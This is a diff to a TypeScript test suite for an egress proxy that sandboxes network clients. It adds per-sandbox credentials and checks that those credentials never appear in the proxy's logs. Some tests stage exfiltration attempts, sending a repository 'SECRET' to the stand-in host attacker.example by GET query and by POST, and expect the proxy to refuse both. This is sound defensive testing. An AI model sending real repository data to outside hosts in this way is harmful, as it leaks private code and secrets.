@@ -20,6 +20,8 @@ export type Client = {
   prepare?(sandbox: Sandbox): Promise<void>;
   /** Fetches, or sends `SECRET` with POST, and prints the answer's body or what went wrong. */
   request(method: "GET" | "POST", url: string, sandbox: Sandbox): readonly string[];
+  /** Cannot be told credentials by the environment, so it is tested without. */
+  readonly anonymous?: boolean;
   /** Asks for a tunnel even where the URL is http://. Only TLS may be spoken inside one, so that is refused. */
   readonly tunnelsPlain?: boolean;
   readonly shows: {
@@ -33,7 +35,8 @@ export type Client = {
 export const SECRET = "the-code-of-this-repository";
 export const PAYLOAD = "the download\n";
 
-export function describeClient({ name, programs, prepare, request, tunnelsPlain, shows }: Client): void {
+export function describeClient(client: Client): void {
+  const { name, programs, prepare, request, anonymous, tunnelsPlain, shows } = client;
   describeWith(name, programs, () => {
     const open: AsyncDisposable[] = [];
     let origin: RecordingOrigin;
@@ -41,6 +44,7 @@ export function describeClient({ name, programs, prepare, request, tunnelsPlain,
     let attacker: RecordingOrigin;
     let proxy: RealSallyport;
     let sandbox: Sandbox;
+    const id = anonymous === true ? undefined : "agent-1";
 
     beforeAll(async () => {
       const ca = createCa();
@@ -50,7 +54,7 @@ export function describeClient({ name, programs, prepare, request, tunnelsPlain,
       origin = await recordingOrigin(ca.issue({ names: ["origin.test"] }));
       plain = await recordingOrigin();
       attacker = await recordingOrigin(ca.issue({ names: ["attacker.example"] }));
-      proxy = await startRealSallyport(configuration(root));
+      proxy = await startRealSallyport(configuration(root, id), id);
       open.push(anchors, origin, plain, attacker, proxy);
       for (const each of [origin, plain, attacker]) each.behave(answerRequests(() => DOWNLOAD));
       sandbox = await openSandbox(proxy);
@@ -71,7 +75,14 @@ export function describeClient({ name, programs, prepare, request, tunnelsPlain,
       expect(origin.received).toMatch(/^GET \/over-tls HTTP\/1\.1\r\n/);
       const records = await proxy.recorded(completed("/over-tls"));
       expect(decisions(records, "/over-tls")).toMatchObject([
-        { kind: "request", verdict: "allow", method: "GET", scheme: "https", host: "origin.test" },
+        {
+          kind: "request",
+          verdict: "allow",
+          method: "GET",
+          scheme: "https",
+          host: "origin.test",
+          ...(id !== undefined && { sandbox: id }),
+        },
       ]);
       expect(
         records.filter(
@@ -80,26 +91,33 @@ export function describeClient({ name, programs, prepare, request, tunnelsPlain,
       ).toEqual([]);
     });
 
-    test.skipIf(tunnelsPlain)("an allowed download without TLS works", async () => {
-      const ran = await run("GET", `http://origin.test:${plain.port}/plain`);
-      expect(ran.stdout, ran.seen).toContain(PAYLOAD);
-      expect(ran.code).toBe(0);
-      expect(plain.received).toMatch(/^GET \/plain HTTP\/1\.1\r\n/);
-      const records = await proxy.recorded(completed("/plain"));
-      expect(decisions(records, "/plain")).toMatchObject([
-        { kind: "request", verdict: "allow", method: "GET", scheme: "http", host: "origin.test" },
-      ]);
-    });
-
-    test.runIf(tunnelsPlain)("a download without TLS, tunnelled, is refused readably", async () => {
-      const ran = await run("GET", `http://origin.test:${plain.port}/plain`);
-      expect(ran.seen).toMatch(/reason: {2}not-tls/);
-      expect(plain.received).toBe("");
-      const records = await proxy.recorded((all) => all.some(({ reason }) => reason === "not-tls"));
-      expect(records).toContainEqual(
-        expect.objectContaining({ type: "decision", kind: "handshake", verdict: "deny", reason: "not-tls" }),
-      );
-    });
+    if (tunnelsPlain === true) {
+      test("a download without TLS, tunnelled, is refused readably", async () => {
+        const ran = await run("GET", `http://origin.test:${plain.port}/plain`);
+        expect(ran.seen).toMatch(/reason: {2}not-tls/);
+        expect(plain.received).toBe("");
+        const records = await proxy.recorded((all) => all.some(({ reason }) => reason === "not-tls"));
+        expect(records).toContainEqual(
+          expect.objectContaining({
+            type: "decision",
+            kind: "handshake",
+            verdict: "deny",
+            reason: "not-tls",
+          }),
+        );
+      });
+    } else {
+      test("an allowed download without TLS works", async () => {
+        const ran = await run("GET", `http://origin.test:${plain.port}/plain`);
+        expect(ran.stdout, ran.seen).toContain(PAYLOAD);
+        expect(ran.code).toBe(0);
+        expect(plain.received).toMatch(/^GET \/plain HTTP\/1\.1\r\n/);
+        const records = await proxy.recorded(completed("/plain"));
+        expect(decisions(records, "/plain")).toMatchObject([
+          { kind: "request", verdict: "allow", method: "GET", scheme: "http", host: "origin.test" },
+        ]);
+      });
+    }
 
     test("a refused host gets nothing, and the person sees why", async () => {
       const ran = await run("GET", `https://attacker.example:${attacker.port}/?${SECRET}`);
@@ -126,6 +144,7 @@ export function describeClient({ name, programs, prepare, request, tunnelsPlain,
         { kind: "request", verdict: "deny", reason: "method-not-allowed", method: "POST" },
       ]);
       expect(JSON.stringify(records)).not.toContain(SECRET);
+      expect(JSON.stringify(records)).not.toContain(CREDENTIAL.slice(1, -1));
     });
   });
 }
@@ -152,11 +171,14 @@ export async function disposeAll(open: readonly AsyncDisposable[]): Promise<void
   for (const each of open.toReversed()) await each[Symbol.asyncDispose]();
 }
 
-const configuration = (root: string): string => `
+/** Every character that a proxy URL must escape. */
+const CREDENTIAL = "p@ss:w/o?rd#%41 +'";
+
+const configuration = (root: string, id: string | undefined): string => `
 upstream:
   trust: [system, bundled, ${root}]
   hosts: { origin.test: [127.0.0.1], attacker.example: [127.0.0.1] }
-anonymous: default
+${id === undefined ? "anonymous: default" : `sandboxes: [{ id: ${id}, secret: ${JSON.stringify(CREDENTIAL)}, policy: default }]`}
 policies:
   default: { preset: none, methods: read-only, allow: [{ host: origin.test, networks: [127.0.0.0/8] }] }
 `;
